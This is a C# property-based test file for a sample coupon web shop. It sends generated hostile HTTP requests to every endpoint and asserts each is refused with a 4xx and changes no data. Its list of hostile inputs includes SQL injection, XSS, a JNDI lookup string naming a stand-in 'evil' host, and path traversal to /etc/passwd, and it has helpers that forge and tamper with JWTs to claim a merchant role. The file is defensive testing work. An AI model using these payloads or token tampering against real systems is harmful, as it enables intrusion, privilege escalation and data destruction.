using System.Globalization;
using System.Text;
using System.Text.Json;
using FsCheck;
using FsCheck.Fluent;
using Xunit.Abstractions;

namespace CouponKit.Samples.WebShop.Tests.Problems;

/// <summary>
/// Generated hostile input through the HTTP API, against every endpoint: malformed, oversized, negative, overflowing,
/// wrong-currency, unknown-id, script- and SQL-laden requests, and missing, forged or foreign tokens. Every generated request
/// carries at least one flaw that must refuse it (its "poison"), next to hostile strings where a value is free text.
/// Invariant, in words: every answer is a 4xx ProblemDetails (never a 5xx, never a success), and the business tables are the
/// same afterwards as before.
/// </summary>
/// <remarks>
/// The run is deterministic: a fixed seed, unless <c>COUPONKIT_HOSTILE_SEED</c> is <c>random</c> or another seed as
/// <c>seed,gamma</c> (gamma odd). A failure names the seed and the request, so it can be replayed.
/// </remarks>
public sealed class HostileInputProperties : IClassFixture<HostileInputTests.SeededFactory>
{
    /// <summary>The generated requests per run.</summary>
    public const int Cases = 150;

    private const string SeedVariable = "COUPONKIT_HOSTILE_SEED";
    private static readonly (ulong Seed, ulong Gamma) FixedSeed = (20261123UL, 0x9E3779B97F4A7C15UL);

    private static readonly string[] HostileStrings =
    [
        "' OR 1=1 --", "'; DROP TABLE ck_coupons; --", "\" OR \"\"=\"", "1; DELETE FROM ck_templates", "' UNION SELECT * FROM ck_coupons --",
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)", "{{7*7}}", "${jndi:ldap://evil/a}",
        "../../etc/passwd", "%00", "\u202Eevil", "😀💥", "\uFEFF", "ｔ１", "null", "undefined", "NaN", "0x7fffffff",
    ];

    private readonly HostileInputTests.SeededFactory _factory;
    private readonly ITestOutputHelper _output;

    public HostileInputProperties(HostileInputTests.SeededFactory factory, ITestOutputHelper output)
    {
        _factory = factory;
        _output = output;
    }

    private enum Auth
    {
        User,
        Merchant,
        OtherMerchant,
        None,
        Garbage,
        ForeignKey,
        TamperedPayload,
        Expired,
    }

    [Fact]
    public async Task GeneratedHostileRequests_Are4xxProblems_AndChangeNothing()
    {
        var seed = await _factory.SeedAsync();
        var before = _factory.DumpBusinessTables();
        var (replaySeed, gamma) = Seed();
        _output.WriteLine($"{SeedVariable}={replaySeed},{gamma} ({Cases} cases)");
        var config = Config.QuickThrowOnFailure.WithMaxTest(Cases).WithReplay(replaySeed, gamma).WithQuietOnSuccess(true);
        var seen = new Dictionary<string, int>(StringComparer.Ordinal);
        var property = Prop.ForAll(Requests(seed).ToArbitrary(), request =>
        {
            seen[request.Endpoint] = seen.GetValueOrDefault(request.Endpoint) + 1;
            var response = Shop.SendRawAsync(Client(request.Auth ?? Auth.None), request.Method, request.Path, request.Body, request.IdempotencyKey).GetAwaiter().GetResult();
            var text = response.Content.ReadAsStringAsync().GetAwaiter().GetResult();
            var failure = Check(response, text) ?? (before == _factory.DumpBusinessTables() ? null : "the business tables changed");
            if (failure is not null)
            {
                throw new InvalidOperationException($"{failure}; replay with {SeedVariable}={replaySeed},{gamma}; request: {request}; answer {(int)response.StatusCode}: {Truncate(text, 600)}");
            }

            return true;
        });

        property.Check(config);

        _output.WriteLine(string.Join(", ", seen.OrderBy(e => e.Key, StringComparer.Ordinal).Select(e => $"{e.Key}: {e.Value}")));
        Assert.Equal(Endpoints.Length, seen.Count); // every endpoint was attacked
        Assert.Equal(before, _factory.DumpBusinessTables());
    }

    private static readonly string[] Endpoints =
    [
        "claim", "mine", "quote", "lock", "confirm", "cancel",
        "create", "get", "inventory", "state", "statistics", "promo-codes", "audit",
    ];

    private static (ulong Seed, ulong Gamma) Seed()
    {
        var value = Environment.GetEnvironmentVariable(SeedVariable);
        if (string.Equals(value, "random", StringComparison.OrdinalIgnoreCase))
        {
            return ((ulong)Random.Shared.NextInt64(), ((ulong)Random.Shared.NextInt64() << 1) | 1UL);
        }

        if (value?.Split(',') is [var s, var g] && ulong.TryParse(s, CultureInfo.InvariantCulture, out var seed) && ulong.TryParse(g, CultureInfo.InvariantCulture, out var gamma))
        {
            return (seed, gamma | 1UL);
        }

        return FixedSeed;
    }

    /// <summary>What must hold for one answer: a 4xx with a ProblemDetails of the shop's, without exception text.</summary>
    private static string? Check(HttpResponseMessage response, string text)
    {
        if ((int)response.StatusCode is < 400 or >= 500)
        {
            return $"expected a 4xx, got {(int)response.StatusCode}";
        }

        if (response.Content.Headers.ContentType?.MediaType != "application/problem+json")
        {
            return $"expected application/problem+json, got {response.Content.Headers.ContentType?.MediaType ?? "no content type"}";
        }

        try
        {
            using var problem = JsonDocument.Parse(text);
            var root = problem.RootElement;
            var type = root.GetProperty("type").GetString() ?? string.Empty;
            if (!type.StartsWith(Shop.ProblemTypePrefix, StringComparison.Ordinal)
                || root.GetProperty("status").GetInt32() != (int)response.StatusCode
                || root.GetProperty("code").GetString() != type[Shop.ProblemTypePrefix.Length..]
                || string.IsNullOrWhiteSpace(root.GetProperty("title").GetString()))
            {
                return "the problem's type, status, code or title is wrong";
            }
        }
        catch (Exception ex) when (ex is JsonException or KeyNotFoundException or InvalidOperationException)
        {
            return "the body is not a ProblemDetails: " + ex.Message;
        }

        return text.Contains("   at ", StringComparison.Ordinal) || text.Contains("Exception:", StringComparison.Ordinal) ? "the answer shows exception details" : null;
    }

    private HttpClient Client(Auth auth)
    {
        var tokens = _factory.Tokens;
        return auth switch
        {
            Auth.User => _factory.User(HostileInputTests.SeededFactory.UserId),
            Auth.Merchant => _factory.Merchant(HostileInputTests.SeededFactory.MerchantId),
            Auth.OtherMerchant => _factory.Merchant("m-intruder"),
            Auth.None => _factory.CreateClient(),
            Auth.Garbage => _factory.WithToken("not.a.jwt"),
            Auth.ForeignKey => _factory.WithToken(Forge(tokens.ForUser(HostileInputTests.SeededFactory.UserId))),
            Auth.TamperedPayload => _factory.WithToken(Tamper(tokens.ForUser("someone-else"))),
            _ => _factory.WithToken(tokens.ForUser(HostileInputTests.SeededFactory.UserId, lifetime: TimeSpan.FromMinutes(-5))),
        };
    }

    /// <summary>The token with its signature's last characters changed.</summary>
    private static string Forge(string token) => token[..^4] + (token.EndsWith("AAAA", StringComparison.Ordinal) ? "BBBB" : "AAAA");

    /// <summary>The token with a payload that claims the merchant role, under the original signature.</summary>
    private static string Tamper(string token)
    {
        var parts = token.Split('.');
        var payload = Convert.ToBase64String(Encoding.UTF8.GetBytes($"{{\"sub\":\"x\",\"role\":\"merchant\",\"merchant_id\":\"{HostileInputTests.SeededFactory.MerchantId}\",\"exp\":4102444800}}"))
            .TrimEnd('=').Replace('+', '-').Replace('/', '_');
        return parts[0] + "." + payload + "." + parts[2];
    }

    private static string Truncate(string text, int max) => text.Length <= max ? text : text[..max] + "…";

    // ---- generators -------------------------------------------------------------------------------------------------

    private static Gen<HostileRequest> Requests(HostileInputTests.Seed seed) =>
        from endpoint in Gen.Elements(Endpoints)
        from request in Request(endpoint, seed)
        select request;

    private static Gen<HostileRequest> Request(string endpoint, HostileInputTests.Seed seed)
    {
        var shopper = endpoint is "claim" or "mine" or "quote" or "lock" or "confirm" or "cancel";
        var owner = shopper ? Auth.User : Auth.Merchant;
        var spec = Spec(endpoint, seed);

        // Poison by token: none, garbage, forged, tampered, expired, or the wrong role; the request itself may be valid.
        var byToken =
            from auth in Gen.Elements(Auth.None, Auth.Garbage, Auth.ForeignKey, Auth.TamperedPayload, Auth.Expired, shopper ? Auth.Merchant : Auth.User)
            from valid in spec.Valid
            select valid with { Auth = auth };

        // Poison by content: the owner's token, a flaw in the path, headers or body.
        var byContent =
            from poisoned in spec.Poisoned
            select poisoned with { Auth = poisoned.Auth ?? owner };

        var gens = new List<Gen<HostileRequest>> { byToken, byContent, byContent, byContent };
        if (spec.Foreign is { } foreign)
        {
            // Another merchant on the seeded merchant's template: refused by the core's tenancy.
            gens.Add(from valid in foreign select valid with { Auth = Auth.OtherMerchant });
        }

        if (!shopper || endpoint == "mine")
        {
            gens.Add(from malformed in Malformed(spec) select malformed with { Auth = malformed.Auth ?? owner });
        }

        return Gen.OneOf(gens.ToArray()).Select(r => r with { Endpoint = endpoint });
    }

    private static Gen<HostileRequest> Malformed(EndpointSpec spec) =>
        spec.Method == HttpMethod.Get
            ? from valid in spec.Poisoned select valid
            : from valid in spec.Valid
              from body in MalformedBody
              select valid with { Body = body };

    private static Gen<string> MalformedBody => Gen.OneOf(
        Gen.Elements(string.Empty, "{", "}", "null", "[]", "\"x\"", "42", "{\"a\":", "{'single':'quotes'}", "{\"x\":1,}", "<xml/>", "\u0000"),
        from depth in Gen.Choose(17, 80)
        select string.Concat(Enumerable.Repeat("{\"a\":", depth)) + "1" + new string('}', depth),
        from name in HostileString
        select "{" + JsonSerializer.Serialize(name) + ":1}");

    private static Gen<string> HostileString => Gen.OneOf(
        Gen.Elements(HostileStrings),
        from s in Gen.Elements(HostileStrings)
        from n in Gen.Choose(0, 9999)
        select s + n.ToString(CultureInfo.InvariantCulture),
        from n in Gen.Elements(129, 500, 5_000)
        select new string('x', n),
        Gen.Elements(string.Empty, " ", "\t", "a\u0001b", "line\r\nbreak"));

    /// <summary>An id no row has: hostile text, or a plausible id never issued.</summary>
    private static Gen<string> UnknownId => Gen.OneOf(
        HostileString,
        from n in Gen.Choose(0, 1_000_000)
        select "c-" + n.ToString(CultureInfo.InvariantCulture));

    /// <summary>An id the core must refuse before any lookup: too long, blank or with control characters.</summary>
    private static Gen<string> MalformedId => Gen.Elements(new string('o', 129), new string('o', 2_000), " ", "a\u0001b", "x\u007f");

    private static Gen<decimal> BadAmount => Gen.Elements(-0.01m, -1m, -1_000_000m, 0.001m, 12.345m, 79228162514264337593543950335m, -79228162514264337593543950335m);

    private static Gen<string> BadCurrency => Gen.Elements("ZZZ", "XXX1", "", "cn", "EURO", "<script>", "' OR 1=1 --", "☃☃☃", "USD\u0000");

    private static Gen<string> Line(Gen<decimal> price, Gen<int> quantity, Gen<string> text) =>
        from p in price
        from q in quantity
        from sku in text
        from id in Gen.Choose(0, 9)
        select $"{{\"lineId\":\"L{id}\",\"sku\":{JsonSerializer.Serialize(sku)},\"unitPrice\":{p.ToString(CultureInfo.InvariantCulture)},\"quantity\":{q.ToString(CultureInfo.InvariantCulture)}}}";

    private static Gen<string> SafeText => Gen.OneOf(Gen.Elements("RICE", "sku-1"), Gen.Elements(HostileStrings));

    private static Gen<string> GoodLine => Line(Gen.Elements(1m, 89.9m, 399m), Gen.Choose(1, 3), SafeText);

    private static Gen<string> GoodCart =>
        from lines in Gen.Choose(1, 3)
        from line in GoodLine
        select $"{{\"currency\":\"CNY\",\"lines\":[{string.Join(',', Enumerable.Range(0, lines).Select(i => line.Replace("\"L", "\"L" + i.ToString(CultureInfo.InvariantCulture), StringComparison.Ordinal)))}]}}";

    private static Gen<string> BadCart => Gen.OneOf(
        from line in Line(BadAmount, Gen.Constant(1), Gen.Constant("S")) select $"{{\"currency\":\"CNY\",\"lines\":[{line}]}}",
        from q in Gen.Elements(0, -1, int.MinValue, int.MaxValue, 1_000_000) select $"{{\"currency\":\"CNY\",\"lines\":[{{\"lineId\":\"L1\",\"sku\":\"S\",\"unitPrice\":10,\"quantity\":{q.ToString(CultureInfo.InvariantCulture)}}}]}}",
        from q in Gen.Elements("1.5", "\"1\"", "2147483648", "1e3", "true") select $"{{\"currency\":\"CNY\",\"lines\":[{{\"lineId\":\"L1\",\"sku\":\"S\",\"unitPrice\":10,\"quantity\":{q}}}]}}",
        from c in BadCurrency select $"{{\"currency\":{JsonSerializer.Serialize(c)},\"lines\":[{{\"lineId\":\"L1\",\"sku\":\"S\",\"unitPrice\":10,\"quantity\":1}}]}}",
        from n in Gen.Elements(0, 101, 2_000) select $"{{\"currency\":\"CNY\",\"lines\":[{string.Join(',', Enumerable.Range(0, n).Select(i => $"{{\"lineId\":\"L{i}\",\"sku\":\"S\",\"unitPrice\":1,\"quantity\":1}}"))}]}}",
        from fee in BadAmount.Where(a => a < 0 || decimal.Round(a, 2) != a) select $"{{\"currency\":\"CNY\",\"shippingFee\":{fee.ToString(CultureInfo.InvariantCulture)},\"lines\":[{{\"lineId\":\"L1\",\"sku\":\"S\",\"unitPrice\":10,\"quantity\":1}}]}}",
        from id in Gen.Elements(HostileStrings.Where(s => s.Length > 0).ToArray()) select $"{{\"currency\":\"CNY\",\"lines\":[{{\"lineId\":\"L1\",\"sku\":\"S\",\"unitPrice\":10,\"quantity\":1}},{{\"lineId\":\"L1\",\"sku\":{JsonSerializer.Serialize(id)},\"unitPrice\":10,\"quantity\":1}}]}}",
        from sku in Gen.Elements(new string('s', 129), "", " ", "a\u0001") select $"{{\"currency\":\"CNY\",\"lines\":[{{\"lineId\":\"L1\",\"sku\":{JsonSerializer.Serialize(sku)},\"unitPrice\":10,\"quantity\":1}}]}}",
        from n in Gen.Elements(21, 500) select $"{{\"currency\":\"CNY\",\"lines\":[{{\"lineId\":\"L1\",\"sku\":\"S\",\"unitPrice\":10,\"quantity\":1,\"categories\":[{string.Join(',', Enumerable.Range(0, n).Select(i => $"\"c{i}\""))}]}}]}}",
        Gen.Elements("[]", "\"cart\"", "{\"currency\":\"CNY\"}", "{\"currency\":\"CNY\",\"lines\":\"L1\"}", "{\"currency\":\"CNY\",\"lines\":[null]}", "{\"currency\":\"CNY\",\"lines\":[{}]}"));

    /// <summary>Coupon id lists that are refused: unknown ids (as a list of 1 to 3), too many, repeated, null or malformed entries.</summary>
    private static Gen<string> BadCouponIds(string known) => Gen.OneOf(
        from ids in Gen.ArrayOf(UnknownId, 3) from n in Gen.Choose(1, 3) select JsonSerializer.Serialize(ids.Take(n).ToArray()),
        from n in Gen.Elements(51, 1_000) select JsonSerializer.Serialize(Enumerable.Range(0, n).Select(i => "c" + i.ToString(CultureInfo.InvariantCulture)).ToArray()),
        Gen.Elements(
            JsonSerializer.Serialize(new[] { known, known }),
            "[null]",
            "[1,2]",
            "\"" + known + "\"",
            JsonSerializer.Serialize(new[] { known, new string('c', 129) }),
            JsonSerializer.Serialize(new[] { "a\u0001" })));

    private static string Path(string id) => Uri.EscapeDataString(id);

    /// <summary>A generator that also yields <paramref name="value"/> now and then.</summary>
    private static Gen<string> Or(Gen<string> gen, string value) => Gen.Frequency((9, gen), (1, Gen.Constant(value)));

    private static EndpointSpec Spec(string endpoint, HostileInputTests.Seed seed)
    {
        var coupon = seed.CouponId;
        var template = "/merchant/templates/" + Path(seed.TemplateId);
        var post = HttpMethod.Post;
        return endpoint switch
        {
            "claim" => new EndpointSpec(
                post,
                Valid: from key in Gen.Choose(0, 1_000_000) select new HostileRequest(post, "/coupons/claims", JsonSerializer.Serialize(new { templateId = seed.OtherTemplateId }), "k" + key.ToString(CultureInfo.InvariantCulture)),
                Poisoned: Gen.OneOf(
                    from id in UnknownId from key in Gen.Choose(0, 1_000_000) select new HostileRequest(post, "/coupons/claims", JsonSerializer.Serialize(new { templateId = id }), "k" + key.ToString(CultureInfo.InvariantCulture)),
                    from key in Gen.Elements<string?>(null, string.Empty, " ", new string('k', 101), new string('k', 5_000)) select new HostileRequest(post, "/coupons/claims", JsonSerializer.Serialize(new { templateId = seed.OtherTemplateId }), key),
                    Gen.Constant(new HostileRequest(post, "/coupons/claims", JsonSerializer.Serialize(new { templateId = seed.OtherTemplateId }), HostileInputTests.SeededFactory.SeedKey)), // replayed key, other body
                    from body in MalformedBody select new HostileRequest(post, "/coupons/claims", body, "k-malformed")),
                Foreign: null),
            "mine" => new EndpointSpec(
                HttpMethod.Get,
                Valid: Gen.Constant(new HostileRequest(HttpMethod.Get, "/coupons/mine", null, null)),
                Poisoned: Gen.Constant(new HostileRequest(HttpMethod.Get, "/coupons/mine", null, null) { Auth = Auth.Merchant }),
                Foreign: null),
            "quote" => new EndpointSpec(
                post,
                Valid: from cart in GoodCart select new HostileRequest(post, "/quotes", $"{{\"cart\":{cart}}}", null),
                Poisoned: Gen.OneOf(
                    from cart in Or(BadCart, "null") select new HostileRequest(post, "/quotes", $"{{\"cart\":{cart}}}", null), // a quote needs its cart
                    from cart in GoodCart from ids in BadCouponIds(coupon) select new HostileRequest(post, "/quotes", $"{{\"cart\":{cart},\"couponIds\":{ids}}}", null),
                    from cart in GoodCart from name in HostileString select new HostileRequest(post, "/quotes", $"{{\"cart\":{cart},{JsonSerializer.Serialize(name + "!")}:true}}", null),
                    from body in MalformedBody select new HostileRequest(post, "/quotes", body, null)),
                Foreign: null),
            "lock" => new EndpointSpec(
                post,
                Valid: from order in Gen.Choose(0, 1_000_000) select new HostileRequest(post, $"/orders/o{order}/lock", JsonSerializer.Serialize(new { couponIds = new[] { coupon } }), null),
                Poisoned: Gen.OneOf(
                    from order in HostileString.Where(s => !string.IsNullOrWhiteSpace(s) && s.Length <= 128 && !s.Any(char.IsControl) && s != "." && s != "..")
                    from ids in BadCouponIds(coupon)
                    select new HostileRequest(post, $"/orders/{Path(order)}/lock", $"{{\"couponIds\":{ids}}}", null),
                    from order in MalformedId select new HostileRequest(post, $"/orders/{Path(order)}/lock", JsonSerializer.Serialize(new { couponIds = new[] { coupon } }), null),
                    from cart in BadCart select new HostileRequest(post, "/orders/o-badcart/lock", $"{{\"couponIds\":[\"{coupon}\"],\"cart\":{cart}}}", null),
                    from currency in Gen.Elements("USD", "EUR", "JPY") select new HostileRequest(post, "/orders/o-currency/lock", $"{{\"couponIds\":[\"{coupon}\"],\"cart\":{{\"currency\":\"{currency}\",\"lines\":[{{\"lineId\":\"L1\",\"sku\":\"S\",\"unitPrice\":250,\"quantity\":1}}]}}}}", null),
                    Gen.Elements("{\"couponIds\":[]}", "{}", "{\"couponIds\":null}").Select(b => new HostileRequest(post, "/orders/o-empty/lock", b, null)),
                    from body in MalformedBody select new HostileRequest(post, "/orders/o-malformed/lock", body, null)),
                Foreign: null),
            "confirm" => new EndpointSpec(
                post,
                Valid: from order in Gen.Choose(0, 1_000_000) select new HostileRequest(post, $"/orders/never-locked-{order}/confirm", null, null),
                Poisoned: Gen.OneOf(
                    from order in UnknownId.Where(s => !string.IsNullOrWhiteSpace(s) && s != "." && s != "..") select new HostileRequest(post, $"/orders/{Path(order)}/confirm", null, null),
                    from order in MalformedId select new HostileRequest(post, $"/orders/{Path(order)}/confirm", null, null)),
                Foreign: null),
            "cancel" => new EndpointSpec(
                post,
                Valid: from ids in BadCouponIds(coupon) select new HostileRequest(post, "/orders/o-cancel/cancel", $"{{\"couponIds\":{ids}}}", null),
                Poisoned: Gen.OneOf(
                    from ids in BadCouponIds(coupon) from reason in HostileString.Where(s => s.Length <= 200) select new HostileRequest(post, "/orders/o-cancel/cancel", $"{{\"couponIds\":{ids},\"reason\":{JsonSerializer.Serialize(reason)}}}", null),
                    from n in Gen.Elements(201, 5_000) select new HostileRequest(post, "/orders/o-cancel/cancel", $"{{\"reason\":\"{new string('r', n)}\"}}", null),
                    from order in MalformedId select new HostileRequest(post, $"/orders/{Path(order)}/cancel", "{}", null),
                    from body in MalformedBody.Where(b => b is not ("" or "null")) select new HostileRequest(post, "/orders/o-cancel/cancel", body, null)),
                Foreign: null),
            "create" => new EndpointSpec(
                post,
                Valid: from name in HostileString.Where(s => !string.IsNullOrWhiteSpace(s) && s.Length <= 200) select new HostileRequest(post, "/merchant/templates", Template(name: JsonSerializer.Serialize(name)), null),
                Poisoned: Gen.OneOf(
                    from inventory in Gen.Elements("0", "-1", "100000001", "2147483648", "1.5", "\"10\"") select new HostileRequest(post, "/merchant/templates", Template(inventory: inventory), null),
                    from rule in Gen.Elements(
                        "{\"kind\":\"percentOff\",\"percent\":1000}", "{\"kind\":\"percentOff\",\"percent\":-5}", "{\"kind\":\"percentOff\",\"percent\":0}", "{\"kind\":\"buyXGetY\"}",
                        "{\"kind\":\"nope\"}", "{\"kind\":3,\"percent\":10}", "{\"kind\":\"thresholdRebate\",\"threshold\":-199,\"off\":30}", "{\"kind\":\"fixedAmount\",\"off\":0.001}",
                        "{\"kind\":\"fixedAmount\",\"off\":79228162514264337593543950335}", "{\"kind\":\"thresholdRebate\"}", "null", "{}")
                    select new HostileRequest(post, "/merchant/templates", Template(rule: rule), null),
                    from name in Gen.Elements("\"\"", "\" \"", "\"" + new string('n', 201) + "\"", "null", "42") select new HostileRequest(post, "/merchant/templates", Template(name: name), null),
                    from currency in BadCurrency select new HostileRequest(post, "/merchant/templates", Template(currency: JsonSerializer.Serialize(currency)), null),
                    from validity in Gen.Elements("\"validDays\":0", "\"validDays\":-1", "\"validDays\":100000", "\"validFrom\":\"2030-01-02T00:00:00Z\",\"validUntil\":\"2030-01-01T00:00:00Z\"", "\"validDays\":7,\"validFrom\":\"2030-01-01T00:00:00Z\",\"validUntil\":\"2030-01-02T00:00:00Z\"", "\"validFrom\":\"not a date\"")
                    select new HostileRequest(post, "/merchant/templates", Template(validity: validity), null),
                    from limit in Gen.Elements("0", "-3", "2147483648") select new HostileRequest(post, "/merchant/templates", Template(extra: ",\"perUserLimit\":" + limit), null)),
                Foreign: null),
            "get" or "statistics" or "audit" => ReadSpec(endpoint, seed, template),
            "inventory" => new EndpointSpec(
                HttpMethod.Put,
                Valid: from total in Gen.Choose(1, 1_000) select new HostileRequest(HttpMethod.Put, template + "/inventory", $"{{\"totalInventory\":{total}}}", null),
                Poisoned: Gen.OneOf(
                    from total in Gen.Elements("0", "-1", "100000001", "2147483648", "\"ten\"", "null", "1.5") select new HostileRequest(HttpMethod.Put, template + "/inventory", $"{{\"totalInventory\":{total}}}", null),
                    from id in UnknownId.Where(s => s.Trim('.').Length > 0) select new HostileRequest(HttpMethod.Put, $"/merchant/templates/{Path(id)}/inventory", "{\"totalInventory\":5}", null),
                    from body in MalformedBody select new HostileRequest(HttpMethod.Put, template + "/inventory", body, null)),
                Foreign: from total in Gen.Choose(1, 1_000) select new HostileRequest(HttpMethod.Put, template + "/inventory", $"{{\"totalInventory\":{total}}}", null)),
            "state" => new EndpointSpec(
                post,
                Valid: from action in Gen.Elements("pause", "end", "resume", "activate") select new HostileRequest(post, template + "/state", $"{{\"action\":\"{action}\"}}", null),
                Poisoned: Gen.OneOf(
                    from action in Gen.Elements("\"explode\"", "0", "3", "null", "\"<script>\"", "\"' OR 1=1 --\"") select new HostileRequest(post, template + "/state", $"{{\"action\":{action}}}", null),
                    from id in UnknownId.Where(s => s.Trim('.').Length > 0) select new HostileRequest(post, $"/merchant/templates/{Path(id)}/state", "{\"action\":\"end\"}", null),
                    from body in MalformedBody select new HostileRequest(post, template + "/state", body, null)),
                Foreign: from action in Gen.Elements("pause", "end") select new HostileRequest(post, template + "/state", $"{{\"action\":\"{action}\"}}", null)),
            _ => new EndpointSpec( // promo-codes
                post,
                Valid: from count in Gen.Choose(1, 5) select new HostileRequest(post, template + "/promo-codes", $"{{\"count\":{count}}}", null),
                Poisoned: Gen.OneOf(
                    from count in Gen.Elements("0", "-1", "1001", "2147483648", "\"5\"") select new HostileRequest(post, template + "/promo-codes", $"{{\"count\":{count}}}", null),
                    from max in Gen.Elements("0", "-5", "100000001") select new HostileRequest(post, template + "/promo-codes", $"{{\"count\":1,\"maxRedemptionsPerCode\":{max}}}", null),
                    from id in UnknownId.Where(s => s.Trim('.').Length > 0) select new HostileRequest(post, $"/merchant/templates/{Path(id)}/promo-codes", "{\"count\":1}", null),
                    from body in MalformedBody select new HostileRequest(post, template + "/promo-codes", body, null)),
                Foreign: Gen.Constant(new HostileRequest(post, template + "/promo-codes", "{\"count\":3}", null))),
        };
    }

    private static EndpointSpec ReadSpec(string endpoint, HostileInputTests.Seed seed, string template)
    {
        var suffix = endpoint == "get" ? string.Empty : "/" + endpoint;
        var get = HttpMethod.Get;
        var valid = Gen.Constant(new HostileRequest(get, template + suffix, null, null));
        return new EndpointSpec(
            get,
            Valid: valid,
            Poisoned: Gen.OneOf(
                from id in UnknownId.Where(s => s.Trim('.').Length > 0) select new HostileRequest(get, $"/merchant/templates/{Path(id)}{suffix}", null, null),
                from id in MalformedId select new HostileRequest(get, $"/merchant/templates/{Path(id)}{suffix}", null, null),
                Gen.Constant(new HostileRequest(get, $"/merchant/templates/{Path(seed.TemplateId)}x{suffix}", null, null))),
            Foreign: valid);
    }

    private static string Template(string rule = "{\"kind\":\"thresholdRebate\",\"threshold\":199,\"off\":30}", string inventory = "10", string name = "\"t\"", string currency = "\"CNY\"", string validity = "\"validDays\":7", string extra = "") =>
        $"{{\"name\":{name},\"currency\":{currency},\"rule\":{rule},\"totalInventory\":{inventory},{validity}{extra}}}";

    /// <summary>Per endpoint: a request that would be accepted with the owner's token (refused only by a token poison or another merchant), requests refused by their content, and what another merchant may try.</summary>
    private sealed record EndpointSpec(HttpMethod Method, Gen<HostileRequest> Valid, Gen<HostileRequest> Poisoned, Gen<HostileRequest>? Foreign);

    /// <summary>One generated request.</summary>
    private sealed record HostileRequest(HttpMethod Method, string Path, string? Body, string? IdempotencyKey)
    {
        public Auth? Auth { get; init; }

        public string Endpoint { get; init; } = string.Empty;

        public override string ToString() =>
            $"{Endpoint} as {Auth}: {Method} {Truncate(Path, 200)} key={Truncate(IdempotencyKey ?? "(none)", 40)} body={Truncate(Body ?? "(none)", 300)}";
    }
}
